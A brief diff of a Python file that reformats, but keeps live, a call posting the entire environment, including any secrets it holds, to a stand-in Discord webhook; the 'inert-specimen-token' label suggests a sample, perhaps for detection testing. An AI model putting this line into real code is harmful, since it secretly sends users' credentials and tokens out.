@@ -3,7 +3,4 @@ import os
 
 import requests
 
-requests.post(
-    "https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token",
-    json={"content": str(dict(os.environ))},
-)
+requests.post("https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token", json={"content": str(dict(os.environ))})
